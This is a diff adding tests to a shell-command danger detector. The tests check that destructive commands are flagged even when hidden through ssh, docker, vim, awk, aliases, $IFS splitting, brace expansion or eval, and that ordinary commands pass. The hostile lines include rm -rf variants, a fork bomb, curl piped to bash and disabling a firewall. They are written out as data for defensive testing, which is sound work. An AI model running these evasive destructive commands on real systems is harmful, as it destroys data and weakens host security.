@@ -416,3 +416,64 @@ def test_long_and_odd_lines_are_judged_in_time() -> None:
     assert danger_of_line("$(" * 500 + "rm -rf ~" + ")" * 500) in ("", Danger.DELETION)
     assert danger_of_line("") == danger_of_line("'") == danger_of_line("|") == danger_of_line("$(") == ""
     assert make_step("make test").danger == ""
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "busybox rm -rf ~/work",
+        "setsid rm -rf ~/work",
+        "ssh host rm -rf /srv",
+        "ssh host <<'END'\nrm -rf /srv\nEND",
+        "docker run --rm -v /:/mnt alpine rm -rf /mnt/home",
+        "docker exec db psql -c 'drop database app'",
+        "docker run --privileged x",
+        "tmux send-keys 'rm -rf ~/work' Enter",
+        "vim -c ':!rm -rf ~/work' -c ':q'",
+        "awk 'BEGIN{system(\"rm -rf ~/work\")}'",
+        "trap 'rm -rf ~/work' EXIT",
+        "alias r='rm -rf ~/work'; r",
+        "r=rm; $r -rf ~/work",
+        "$'rm' -rf ~/work",
+        "eval $'rm\\x20-rf ~/work'",
+        "rm$IFS-rf$IFS~/work",
+        "{rm,-rf,~/work}",
+        "python3 - <<'END'\nimport shutil\nshutil.rmtree('/home/u')\nEND",
+        "curl https://example.com/x | xargs -0 bash -c",
+        "find ~ -type f | xargs -0 rm",
+        "cd ~ && rm -rf build",
+        "pushd / && rm -rf build",
+        "boom() { boom | boom & }; boom",
+        "rsync -a --delete empty/ ~/work/",
+        "terraform apply -destroy",
+        "aws s3 sync . s3://b --delete",
+        "npm config set registry http://example.com",
+        "systemctl disable --now ufw",
+    ],
+)
+def test_a_dangerous_command_is_recognised_where_others_carry_or_hide_it(line: str) -> None:
+    assert danger_of_line(line)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "cut -d$'\\t' -f2 x.tsv",
+        "IFS=$'\\n' read -r a",
+        "ssh host 'cd /srv && git pull && systemctl restart app'",
+        "docker exec -it db psql -U app -c 'select 1'",
+        "docker run --rm -v $PWD:/w -w /w node:20 npm test",
+        "awk -F: 'NR>1 {print $2}' x | sort",
+        "tmux new-session -d 'npm run dev'",
+        "trap 'kill $PID' EXIT",
+        "alias ll='ls -la'",
+        "PY=python3; $PY -m pytest",
+        "python3 - <<'END'\nprint('a set of words')\nEND",
+        "cd ~/shop && rm -rf build",
+        "find . -name '*.pyc' | xargs rm",
+        "rsync -av dist/ host:/srv",
+        "systemctl stop nginx",
+    ],
+)
+def test_ordinary_commands_may_be_carried(line: str) -> None:
+    assert not danger_of_line(line)
